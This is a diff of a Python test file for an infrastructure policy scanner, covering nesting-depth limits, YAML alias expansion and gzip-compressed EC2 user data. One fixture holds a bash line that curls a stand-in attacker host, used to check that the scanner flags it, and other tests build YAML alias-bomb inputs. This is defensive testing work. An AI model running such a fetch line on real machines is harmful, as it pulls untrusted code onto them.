@@ -53,7 +53,7 @@ def _yaml_nested(levels: int) -> str:
     return "".join(f"{'  ' * i}k{i}:\n" for i in range(levels - 1)) + f"{'  ' * (levels - 1)}k: fleet\n"
 
 
-# -- the reader, per bound ---------------------------------------------------------------------------------------------
+# -- the reader, per bound --
 
 
 def test_json_depth_is_bounded_before_the_decoder_recurses() -> None:
@@ -99,7 +99,7 @@ def test_an_alias_inside_its_own_anchor_is_endless() -> None:
 
 def test_alias_chains_deeper_than_the_text_are_bounded_by_their_expanded_depth() -> None:
     lines = ["l0: &l0 [fleet]"] + [f"l{i}: &l{i} [*l{i - 1}]" for i in range(1, MAX_DEPTH + 5)]
-    with pytest.raises(DocumentBeyondBounds, match="nested deeper than .* once its aliases are expanded"):
+    with pytest.raises(DocumentBeyondBounds, match=r"nested deeper than \d+ levels once its aliases are expanded"):
         yaml_or_none("\n".join(lines) + "\n")
 
 
@@ -117,7 +117,7 @@ def test_the_join_and_template_bodies_read_a_document_beyond_the_bounds_as_none(
     assert input_document(_laughs(8)) is None and load_document("[" * 500 + "]" * 500) is None
 
 
-# -- the engine: refused beyond, judged within --------------------------------------------------------------------------
+# -- the engine: refused beyond, judged within --
 
 
 @pytest.mark.parametrize(
@@ -161,7 +161,9 @@ def test_gzip_user_data_beyond_the_bound_is_refused() -> None:
         data = base64.b64encode(gzip.compress(script, mtime=0)).decode()
         return Subject("aws:ec2/instance:Instance", "i", {"ami": "ami-1", "user_data_base64": data}, PINNED_EU)
 
-    assert _rules(instance(b"#!/bin/bash\ncurl https://evil.example.com/x\n")) == [("RES-015", "user_data_base64(base64+gzip)")]
+    assert _rules(instance(b"#!/bin/bash\ncurl https://evil.example.com/x\n")) == [
+        ("RES-015", "user_data_base64(base64+gzip)")
+    ]
     assert _rules(instance(b"#!/bin/bash\n" + b"#" * (4 << 20))) == [("RES-025", "user_data_base64")]
 
 
@@ -172,7 +174,7 @@ def test_binary_content_in_a_cloud_config_is_bounded() -> None:
     assert [rule for rule, _ in _rules(subject)] == ["RES-025"]
 
 
-# -- a few anchors: judged exactly as the same document written out ----------------------------------------------------
+# -- a few anchors: judged exactly as the same document written out --
 
 _COMPOSE_ANCHORED = """\
 x-defaults: &defaults
@@ -215,7 +217,7 @@ def test_many_merge_keys_of_one_map_stay_judged() -> None:
     assert _rules(_ssm("\n".join(lines) + "\n")) == []
 
 
-# -- random documents never raise out of the engine ---------------------------------------------------------------------
+# -- random documents never raise out of the engine --
 
 _LEAVES = st.one_of(
     st.none(), st.booleans(), st.integers(), st.text(max_size=12),
